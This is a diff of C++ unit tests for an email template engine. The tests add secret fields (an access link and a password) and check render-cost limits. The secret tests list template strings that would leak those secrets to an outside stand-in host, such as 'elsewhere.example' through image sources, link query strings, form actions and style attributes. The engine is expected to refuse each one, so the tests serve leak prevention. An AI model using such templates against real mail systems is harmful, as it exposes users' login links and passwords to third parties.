@@ -19,6 +19,8 @@ const Names known{
     {"brand_color"},
     {"panel_url"},
     {"cancel_link", Kind::link},
+    {"access_link", Kind::link, {}, true},
+    {"password", Kind::text, {}, true},
     {"starts_at", Kind::moment},
     {"can_cancel", Kind::flag},
     {"upcoming_bookings",
@@ -245,10 +247,98 @@ TEST(Template, HasLimits) {
     EXPECT_EQ(text("{{#each upcoming_bookings}}x{{/each}}", with_bookings(1200)), std::string(1000, 'x'));
     const auto parsed = parse(nested(4, "{{#each upcoming_bookings}}", "{{/each}}"), Form::text, known);
     EXPECT_EQ(render(*parsed, with_bookings(1000)).error().code,
-              "template.output_too_long");  // writes nothing, for ever
+              "template.too_costly");  // writes nothing, for ever
     const auto long_one = parse("{{#each upcoming_bookings}}{{note}}{{/each}}", Form::text, known);
     EXPECT_EQ(render(*long_one, with_bookings(1000).set("note", std::string(2000, 'x'))).error().code,
               "template.output_too_long");
+}
+
+TEST(Template, CountsFiltersAmongItsSteps) {
+    const auto nested = [](int filters) {
+        std::string value = "{{starts_at | date";
+        for (int i = 0; i < filters; ++i) value += i % 2 ? " | upper" : " | lower";
+        std::string out = value + "}}";
+        for (int i = 0; i < 3; ++i) out = "{{#each upcoming_bookings}}" + out + "{{/each}}";
+        return parse(out, Form::text, known).value();
+    };
+    const auto began = std::chrono::steady_clock::now();
+    EXPECT_TRUE(render(nested(2), with_bookings(10)));
+    EXPECT_EQ(render(nested(50), with_bookings(50)).error().code, "template.too_costly");
+    EXPECT_LT(std::chrono::steady_clock::now() - began, std::chrono::seconds{5});
+}
+
+TEST(Template, IsNotWrittenOutForLongerThanItsReaderWaits) {
+    const auto parsed =
+        parse("{{#each upcoming_bookings}}{{#each upcoming_bookings}}{{service}}{{/each}}{{/each}}", Form::text, known);
+    const auto values = with_bookings(100);
+    const auto now = std::chrono::steady_clock::now();
+    EXPECT_TRUE(render(*parsed, values, now + std::chrono::hours{1}));
+    EXPECT_EQ(render(*parsed, values, now - std::chrono::seconds{1}).error().code, "template.too_costly");
+}
+
+// ---- Secrets -------------------------------------------------------------------------------------------------------
+
+TEST(TemplateSecrets, StandWhereNothingCarriesThemAway) {
+    for (const auto* const good :
+         {"<a href=\"{{access_link}}\">In</a>", "<a class='b' href='{{access_link}}' style='x:y'>In</a>",
+          "<A HREF = \" {{ access_link | default: &quot;https://x.example&quot; }}\">In</A>", "<p>{{access_link}}</p>",
+          "<p>See {{access_link}}.</p>", "{{#if access_link}}{{access_link}}{{/if}}",
+          "<a href=\"{{#if access_link}}{{access_link}}{{else}}{{panel_url}}{{/if}}\">In</a>",
+          "<a href=\"{{#if can_cancel}}{{access_link}}{{else}}https://x.example/{{note}}{{/if}}\">In</a>",
+          "{{#each upcoming_bookings}}<a href=\"{{access_link}}\">{{service}}</a>{{/each}}",
+          "<!--[if mso]><a href=\"{{access_link}}\">In</a><![endif]-->",
+          "<img src=\"https://x.example/t?u={{panel_url}}\">{{cancel_link}}",
+          "<p>Visit https://x.example/. Your password: <b>{{password}}</b></p>", "<p>({{password}})</p>"})
+        EXPECT_EQ(refusal(good), "accepted") << good;
+    for (const auto* const good :
+         {"{{access_link}}", "Hello\n\n  {{access_link}}  \nBye", "{{#if access_link}}{{access_link}}{{/if}}\n",
+          "https://x.example/\n{{#if can_cancel}}\n{{access_link}}\n{{else}}\nno\n{{/if}}\nBye",
+          "{{#each upcoming_bookings}}\n{{service}}\n{{access_link}}\n{{/each}}", "{{#if access_link}}Sign in: {{/if}}",
+          "Your password: {{password}}", "{{password}}\n"})
+        EXPECT_EQ(refusal(good, Form::text), "accepted") << good;
+    EXPECT_EQ(refusal("{{customer_name}}, {{#if access_link}}now{{/if}}", Form::subject), "accepted");
+}
+
+TEST(TemplateSecrets, AreRefusedWithTheirLineWhereTheyWouldGoElsewhere) {
+    for (const auto* const bad :
+         {"\n<img src=\"https://elsewhere.example/t?u={{access_link}}\">", "\n<img src=\"{{access_link}}\">",
+          "\n<a href=\"https://elsewhere.example/?u={{access_link}}\">In</a>",
+          "\n<a href=\"{{access_link}}&u=1\">In</a>", "\n<a href=\"{{access_link}}{{note}}\">In</a>",
+          "\n<a href=\"{{note}}{{access_link}}\">In</a>",
+          "\n<a href=\"{{#if note}}https://elsewhere.example/?u={{/if}}{{access_link}}\">In</a>",
+          "\n<a href=\"{{#if note}}{{access_link}}{{/if}}x\">In</a>", "\n<a href=\"{{access_link}}",
+          "\n<a href=\"{{#each upcoming_bookings}}{{access_link}}{{/each}}\">In</a>",
+          "\n<a title=\"{{access_link}}\">In</a>", "\n<link href=\"{{access_link}}\">",
+          "\n<form action=\"{{access_link}}\"></form>", "\n<input name=a value=\"{{access_link}}\">",
+          "\n<form action='https://elsewhere.example'><textarea name=a>{{access_link}}</textarea></form>",
+          "\n<p style=\"background:{{access_link}}\">", "\n<!-- {{access_link}} -->",
+          "\n<svg><image xlink:href=\"{{access_link}}\"/></svg>", "\n<title>{{access_link}}</title>"})
+        EXPECT_EQ(refusal(bad), "template.secret_in_html line=2 name=access_link") << bad;
+    for (const auto* const bad :
+         {"\n<img src=\"https://elsewhere.example/t?u={{password}}\">", "\n<a href=\"{{password}}\">In</a>",
+          "\n<p>https://elsewhere.example/?p={{password}}</p>", "\n<p>https://elsewhere.example/{{note}}{{password}}",
+          "\n<i title='{{password | upper}}'></i>"})
+        EXPECT_EQ(refusal(bad), "template.secret_in_html line=2 name=password") << bad;
+    for (const auto* const bad :
+         {"\nhttps://elsewhere.example/?u={{access_link}}", "\nSign in: {{access_link}}", "\n{{access_link}}!",
+          "\n{{access_link}} {{access_link}}", "\n{{note}}{{access_link}}", "\n{{access_link}}{{note}}",
+          "\n{{#if note}}https://elsewhere.example/?u={{/if}}{{access_link}}", "\n{{#if note}}{{access_link}}{{/if}}&x",
+          "\n{{#each upcoming_bookings}}{{access_link}}{{/each}}",
+          "\n{{#each upcoming_bookings}}{{access_link}}\nhttps://elsewhere.example/?u={{/each}}"})
+        EXPECT_EQ(refusal(bad, Form::text), "template.secret_in_text line=2 name=access_link") << bad;
+    EXPECT_EQ(refusal("\nhttps://elsewhere.example/?p={{password}}", Form::text),
+              "template.secret_in_text line=2 name=password");
+    for (const auto* const name : {"access_link", "password"})
+        EXPECT_EQ(refusal("{{" + std::string(name) + "}}", Form::subject),
+                  "template.secret_in_subject line=1 name=" + std::string(name));
+}
+
+TEST(TemplateSecrets, AreNoPartOfAWordInTheTextMadeOfTheHtml) {
+    auto values = anna();
+    values.set("access_link", Link{"In", "https://book.example/access/x"});
+    const auto html =
+        html_of("<p>https://elsewhere.example/?u=<a href=\"{{access_link}}\"><img src='a.png'></a></p>", values);
+    EXPECT_EQ(text_of_html(html), "https://elsewhere.example/?u= https://book.example/access/x\n");
 }
 
 // ---- HTML ----------------------------------------------------------------------------------------------------------
